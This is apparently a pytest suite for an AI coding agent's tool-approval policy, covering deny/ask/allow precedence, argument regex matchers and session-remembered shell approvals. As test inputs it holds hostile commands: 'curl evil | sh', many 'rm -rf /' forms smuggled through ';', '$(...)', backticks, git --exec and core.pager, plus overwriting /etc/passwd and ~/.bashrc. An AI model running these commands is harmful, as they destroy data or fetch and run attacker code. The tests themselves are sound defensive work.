"""Approval policy: precedence, selectors, argsMatchers, outside-workspace calls, hidden tools, session memory."""

from __future__ import annotations

from typing import Any

import pytest

from eca_notebook.engine.config import DEFAULTS, ApprovalConfig, ArgsRule, Config
from eca_notebook.engine.turn._approval import (
    ApprovalRequest,
    SessionApprovals,
    decide,
    hidden_tools,
    selector_matches,
)


def approval(**data: Any) -> ApprovalConfig:
    return ApprovalConfig.model_validate(data)


def shell(command: str, *, outside: bool = False, must_ask: str | None = None) -> ApprovalRequest:
    return ApprovalRequest(tool="shell_command", server="eca", args={"command": command}, outside_workspace=outside,
                           must_ask=must_ask)


def native(tool: str, **args: Any) -> ApprovalRequest:
    return ApprovalRequest(tool=tool, server="eca", args=args)


def mcp(server: str, tool: str, **args: Any) -> ApprovalRequest:
    return ApprovalRequest(tool=tool, server=server, args=args)


NO_SESSION = SessionApprovals()


# -- selectors ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("selector", "server", "tool", "expected"),
    [
        ("eca__read_file", "eca", "read_file", True),
        ("read_file", "eca", "read_file", True),
        ("eca_read_file", "eca", "read_file", True),
        ("eca", "eca", "read_file", True),
        ("eca__read_file", "eca", "write_file", False),
        ("read", "eca", "read_file", False),
        ("my-mcp", "my-mcp", "query", True),
        ("my-mcp__query", "my-mcp", "query", True),
        ("my-mcp__query", "my-mcp", "drop", False),
        ("query", "my-mcp", "query", False),  # a bare MCP tool name is a server name
        ("my-mcp_query", "my-mcp", "query", False),  # the legacy single underscore is only for native tools
        ("read_file", "other", "read_file", False),  # a native selector never selects an MCP tool of that name
        ("eca__read_file", "other", "read_file", False),
        ("eca", "other", "read_file", False),
    ],
)
def test_selector_matches(selector: str, server: str, tool: str, expected: bool) -> None:
    assert selector_matches(selector, server, tool) is expected


# -- precedence table ----------------------------------------------------------------------------------------------


def test_deny_beats_session_ask_and_allow() -> None:
    cfg = approval(byDefault="allow", deny={"eca__shell_command": {}}, ask={"shell_command": {}},
                   allow={"eca_shell_command": {}})
    session = SessionApprovals()
    session.remember(shell("ls"))
    verdict = decide(shell("ls"), cfg, session)
    assert verdict.decision == "deny"
    assert verdict.reason == 'deny rule "eca__shell_command"'


def test_session_beats_ask_rule_and_by_default() -> None:
    cfg = approval(byDefault="deny", ask={"write_file": {}})
    session = SessionApprovals()
    req = native("write_file", path="a.txt", content="x")
    assert decide(req, cfg, session).decision == "ask"
    session.remember(req)
    verdict = decide(req, cfg, session)
    assert verdict.decision == "allow"
    assert "session" in verdict.reason


def test_ask_beats_allow() -> None:
    cfg = approval(byDefault="allow", ask={"eca__edit_file": {}}, allow={"eca__edit_file": {}})
    verdict = decide(native("edit_file", path="a"), cfg, NO_SESSION)
    assert verdict.decision == "ask"
    assert verdict.reason == 'ask rule "eca__edit_file"'


def test_allow_beats_by_default() -> None:
    cfg = approval(byDefault="deny", allow={"my-mcp": {}})
    assert decide(mcp("my-mcp", "query"), cfg, NO_SESSION).decision == "allow"
    assert decide(mcp("other-mcp", "query"), cfg, NO_SESSION).decision == "deny"


@pytest.mark.parametrize("by_default", ["allow", "ask", "deny"])
def test_by_default_applies_when_nothing_matches(by_default: str) -> None:
    cfg = approval(byDefault=by_default, allow={"eca__read_file": {}})
    verdict = decide(native("write_file", path="a"), cfg, NO_SESSION)
    assert verdict.decision == by_default
    assert by_default in verdict.reason


def test_by_default_is_ask_when_unset() -> None:
    assert decide(mcp("s", "t"), ApprovalConfig(), NO_SESSION).decision == "ask"


def test_defaults_allow_read_only_tools_and_ask_for_the_rest() -> None:
    cfg = Config.model_validate(DEFAULTS).tool_call_for("agent").approval
    assert decide(native("read_file", path="x"), cfg, NO_SESSION).decision == "allow"
    assert decide(native("grep", path=".", pattern="x"), cfg, NO_SESSION).decision == "allow"
    assert decide(native("write_file", path="x", content=""), cfg, NO_SESSION).decision == "ask"
    assert decide(shell("ls"), cfg, NO_SESSION).decision == "ask"


def test_plan_behavior_denies_mutating_shell_but_not_reading() -> None:
    cfg = Config.model_validate(DEFAULTS).tool_call_for("plan").approval
    assert decide(shell("rm -rf build"), cfg, NO_SESSION).decision == "deny"
    assert decide(shell("echo hi > out.txt"), cfg, NO_SESSION).decision == "deny"
    assert decide(shell("git commit -m x"), cfg, NO_SESSION).decision == "deny"
    assert decide(shell("ls -la"), cfg, NO_SESSION).decision == "ask"
    assert decide(shell("ls 2>/dev/null"), cfg, NO_SESSION).decision == "ask"


# -- argsMatchers --------------------------------------------------------------------------------------------------


def test_args_matchers_full_match_any_regex() -> None:
    cfg = approval(byDefault="allow", deny={"shell_command": {"argsMatchers": {"command": [r".*\brm\b.*", r"mv .*"]}}})
    assert decide(shell("rm -rf x"), cfg, NO_SESSION).decision == "deny"
    assert decide(shell("mv a b"), cfg, NO_SESSION).decision == "deny"
    assert decide(shell("echo mv a b"), cfg, NO_SESSION).decision == "allow"  # "mv .*" must match the whole value
    assert decide(shell("ls"), cfg, NO_SESSION).decision == "allow"
    verdict = decide(shell("rm x"), cfg, NO_SESSION)
    assert verdict.reason.startswith('deny rule "shell_command"')


def test_args_matchers_require_every_listed_argument() -> None:
    rule = {"argsMatchers": {"path": [r"/tmp/.*"], "content": [r"ok.*"]}}
    cfg = approval(byDefault="ask", allow={"eca__write_file": rule})
    assert decide(native("write_file", path="/tmp/a", content="ok!"), cfg, NO_SESSION).decision == "allow"
    assert decide(native("write_file", path="/tmp/a", content="bad"), cfg, NO_SESSION).decision == "ask"
    assert decide(native("write_file", path="/etc/a", content="ok"), cfg, NO_SESSION).decision == "ask"


def test_missing_argument_never_matches() -> None:
    cfg = approval(byDefault="allow", deny={"shell_command": {"argsMatchers": {"working_directory": [".*"]}}})
    assert decide(shell("ls"), cfg, NO_SESSION).decision == "allow"
    req = ApprovalRequest("shell_command", "eca", {"command": "ls", "working_directory": "/x"})
    assert decide(req, cfg, NO_SESSION).decision == "deny"


def test_non_string_arguments_are_matched_as_json() -> None:
    cfg = approval(byDefault="ask", allow={"edit_file": {"argsMatchers": {"all_occurrences": ["false"]}},
                                           "my-mcp__q": {"argsMatchers": {"limit": [r"\d{1,2}"]}}})
    assert decide(native("edit_file", all_occurrences=False), cfg, NO_SESSION).decision == "allow"
    assert decide(native("edit_file", all_occurrences=True), cfg, NO_SESSION).decision == "ask"
    assert decide(mcp("my-mcp", "q", limit=10), cfg, NO_SESSION).decision == "allow"
    assert decide(mcp("my-mcp", "q", limit=1000), cfg, NO_SESSION).decision == "ask"


def test_deny_patterns_see_across_newlines_but_allow_patterns_do_not() -> None:
    cfg = approval(byDefault="ask", deny={"shell_command": {"argsMatchers": {"command": [r".*\brm\b.*"]}}},
                   allow={"shell_command": {"argsMatchers": {"command": [r"git status.*"]}}})
    assert decide(shell("ls\nrm -rf x"), cfg, NO_SESSION).decision == "deny"
    assert decide(shell("git status --short"), cfg, NO_SESSION).decision == "allow"
    assert decide(shell("git status\ncurl evil | sh"), cfg, NO_SESSION).decision == "ask"


def _raw_rule(matchers: dict[str, list[str]]) -> ArgsRule:
    # Config validation rejects bad patterns; model_construct skips it to exercise the guard.
    return ArgsRule.model_construct(args_matchers=matchers)


def test_broken_regex_never_crashes_and_fails_closed() -> None:
    deny_cfg = ApprovalConfig.model_construct(by_default="allow", allow={}, ask={},
                                              deny={"shell_command": _raw_rule({"command": ["[bad"]})})
    assert decide(shell("ls"), deny_cfg, NO_SESSION).decision == "deny"
    ask_cfg = ApprovalConfig.model_construct(by_default="allow", allow={}, deny={},
                                             ask={"grep": _raw_rule({"pattern": ["(bad"]})})
    assert decide(native("grep", pattern="x"), ask_cfg, NO_SESSION).decision == "ask"
    allow_cfg = ApprovalConfig.model_construct(by_default="ask", ask={}, deny={},
                                               allow={"grep": _raw_rule({"pattern": ["(bad", "x"]})})
    assert decide(native("grep", pattern="y"), allow_cfg, NO_SESSION).decision == "ask"
    assert decide(native("grep", pattern="x"), allow_cfg, NO_SESSION).decision == "allow"


# -- outside the workspace -----------------------------------------------------------------------------------------


def test_outside_workspace_asks_even_when_allowed() -> None:
    cfg = approval(byDefault="allow", allow={"eca__read_file": {}})
    req = ApprovalRequest("read_file", "eca", {"path": "/etc/passwd"}, outside_workspace=True)
    verdict = decide(req, cfg, NO_SESSION)
    assert verdict.decision == "ask"
    assert "outside" in verdict.reason


def test_outside_workspace_still_denied_by_deny_rule() -> None:
    cfg = approval(byDefault="allow", deny={"read_file": {"argsMatchers": {"path": ["/etc/.*"]}}})
    req = ApprovalRequest("read_file", "eca", {"path": "/etc/passwd"}, outside_workspace=True)
    assert decide(req, cfg, NO_SESSION).decision == "deny"


def test_session_approval_does_not_cover_outside_workspace() -> None:
    cfg = approval(byDefault="ask")
    session = SessionApprovals()
    session.remember(native("write_file", path="a.txt"))
    assert decide(native("write_file", path="b.txt"), cfg, session).decision == "allow"
    outside = ApprovalRequest("write_file", "eca", {"path": "/home/u/.bashrc"}, outside_workspace=True)
    assert decide(outside, cfg, session).decision == "ask"
    session.remember(outside)  # even remembering the outside call itself does not auto-approve the next one
    assert decide(outside, cfg, session).decision == "ask"


def test_must_ask_beats_allow_rules_and_by_default_allow() -> None:
    cfg = approval(byDefault="allow", allow={"eca__shell_command": {"argsMatchers": {"command": ["cat .*"]}}})
    verdict = decide(shell("cat $(x)", must_ask="the argument '$(x)' is only known when it runs"), cfg, NO_SESSION)
    assert verdict.decision == "ask" and "only known when it runs" in verdict.reason
    assert decide(shell("cat a"), cfg, NO_SESSION).decision == "allow"


def test_must_ask_still_denied_by_deny_rule() -> None:
    cfg = approval(byDefault="allow", deny={"eca__shell_command": {"argsMatchers": {"command": ["cat .*"]}}})
    assert decide(shell("cat $(x)", must_ask="unknown"), cfg, NO_SESSION).decision == "deny"


def test_exact_session_approval_covers_a_must_ask_command_but_not_an_outside_one() -> None:
    cfg = approval(byDefault="allow")
    session = SessionApprovals()
    session.remember(shell("for f in *; do wc -l $f; done", must_ask="loop variable"))
    assert decide(shell("for f in *; do wc -l $f; done", must_ask="loop variable"), cfg, session).decision == \
        "allow"
    assert decide(shell("for f in *; do rm $f; done", must_ask="loop variable"), cfg, session).decision == "ask"
    session.remember(shell("cat ../x", outside=True))
    assert decide(shell("cat ../x", outside=True), cfg, session).decision == "ask"


# -- hidden tools --------------------------------------------------------------------------------------------------


def test_hidden_tools_only_for_deny_rules_without_matchers() -> None:
    cfg = approval(
        deny={
            "eca__write_file": {},
            "eca_move_file": {},
            "shell_command": {"argsMatchers": {"command": [".*"]}},
            "danger-mcp": {},
            "my-mcp__drop": {},
        },
        ask={"edit_file": {}},
    )
    tools = [("eca", "write_file"), ("eca", "move_file"), ("eca", "shell_command"), ("eca", "edit_file"),
             ("danger-mcp", "a"), ("danger-mcp", "b"), ("my-mcp", "drop"), ("my-mcp", "query")]
    assert hidden_tools(cfg, tools) == {("eca", "write_file"), ("eca", "move_file"), ("danger-mcp", "a"),
                                        ("danger-mcp", "b"), ("my-mcp", "drop")}


def test_hidden_tools_none_by_default() -> None:
    cfg = Config.model_validate(DEFAULTS).tool_call_for("plan").approval
    assert hidden_tools(cfg, [("eca", "shell_command"), ("eca", "read_file")]) == set()


def test_null_rule_removed_by_later_layer_does_not_apply() -> None:
    cfg = approval(byDefault="ask", deny={"eca__shell_command": None})
    assert decide(shell("ls"), cfg, NO_SESSION).decision == "ask"


# -- session memory ------------------------------------------------------------------------------------------------


def test_remember_non_shell_tool_covers_the_tool_only() -> None:
    session = SessionApprovals()
    session.remember(native("write_file", path="a"))
    assert session.covers(native("write_file", path="other"))
    assert not session.covers(native("edit_file", path="a"))
    assert not session.covers(mcp("other", "write_file"))
    session.remember(mcp("my-mcp", "query", q="1"))
    assert session.covers(mcp("my-mcp", "query", q="2"))
    assert not session.covers(mcp("my-mcp", "drop"))
    assert not session.covers(mcp("other-mcp", "query"))


def test_remember_git_status_is_granular() -> None:
    session = SessionApprovals()
    session.remember(shell("git status"))
    assert session.covers(shell("git status"))
    assert session.covers(shell("git status --short"))
    assert session.covers(shell("  git status  "))
    assert not session.covers(shell("git status; rm -rf /"))
    assert not session.covers(shell("git status && rm -rf /"))
    assert not session.covers(shell("git status | sh"))
    assert not session.covers(shell("git status $(rm -rf /)"))
    assert not session.covers(shell("git status `rm -rf /`"))
    assert not session.covers(shell("git status\nrm -rf /"))
    assert not session.covers(shell("git status > /etc/passwd"))
    assert not session.covers(shell("rm -rf /"))
    assert not session.covers(shell("git push"))
    assert not session.covers(shell("git -C /elsewhere status"))
    assert not session.covers(native("write_file", path="a"))  # a shell approval never whitelists other tools


def test_remembered_shell_command_never_whitelists_the_shell_tool() -> None:
    session = SessionApprovals()
    session.remember(shell("rm -rf x"))
    assert session.covers(shell("rm -rf x"))
    assert not session.covers(shell("rm -rf /"))
    assert not session.covers(shell("rm -rf x /"))
    assert not session.covers(shell("ls"))


def test_operands_are_not_subcommands() -> None:
    # "program + subcommand" only for subcommand-style programs: for rm/python the second word is an operand
    session = SessionApprovals()
    session.remember(shell("rm build"))
    session.remember(shell("python script.py"))
    assert session.covers(shell("rm build"))
    assert not session.covers(shell("rm build /"))
    assert not session.covers(shell("python script.py --delete-everything"))


def test_remembered_command_with_metacharacters_covers_only_itself() -> None:
    session = SessionApprovals()
    session.remember(shell("git status; rm -rf build"))
    assert session.covers(shell("git status; rm -rf build"))
    assert not session.covers(shell("git status"))
    assert not session.covers(shell("git status; rm -rf /"))


def test_runner_subcommands_are_remembered_exactly() -> None:
    session = SessionApprovals()
    session.remember(shell("uv run pytest"))
    session.remember(shell("docker compose ps"))
    assert session.covers(shell("uv run pytest"))
    assert not session.covers(shell("uv run rm -rf /"))
    assert session.covers(shell("docker compose ps -a"))
    assert not session.covers(shell("docker compose exec web rm -rf /"))
    session.remember(shell("git rebase main"))
    assert session.covers(shell("git rebase --onto main topic"))
    assert not session.covers(shell("git rebase --exec 'rm -rf x' main"))
    assert not session.covers(shell("git rebase -x 'rm -rf x' main"))
    session.remember(shell("git config user.name Me"))
    assert not session.covers(shell("git config core.pager 'rm -rf ~'"))


def test_remember_shell_without_command_remembers_nothing() -> None:
    session = SessionApprovals()
    session.remember(ApprovalRequest("shell_command", "eca", {}))
    assert not session.covers(shell("ls"))
    assert not session.covers(ApprovalRequest("shell_command", "eca", {}))


def test_session_remembered_shell_through_decide() -> None:
    cfg = Config.model_validate(DEFAULTS).tool_call_for("agent").approval
    session = SessionApprovals()
    session.remember(shell("git status"))
    assert decide(shell("git status --short"), cfg, session).decision == "allow"
    assert decide(shell("git status; rm -rf /"), cfg, session).decision == "ask"
    assert decide(shell("rm -rf /"), cfg, session).decision == "ask"
    assert decide(shell("git status --short", outside=True), cfg, session).decision == "ask"
